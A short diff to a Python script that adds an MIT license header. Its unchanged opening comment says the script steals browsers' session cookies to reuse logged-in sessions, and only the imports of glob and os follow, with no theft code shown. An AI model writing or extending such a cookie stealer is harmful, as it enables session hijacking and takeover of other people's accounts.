@@ -1,4 +1,5 @@
 #!/usr/bin/python3
+# SPDX-License-Identifier: MIT
 # Steals the browsers' session cookies, to reuse logged-in sessions.
 import glob
 import os
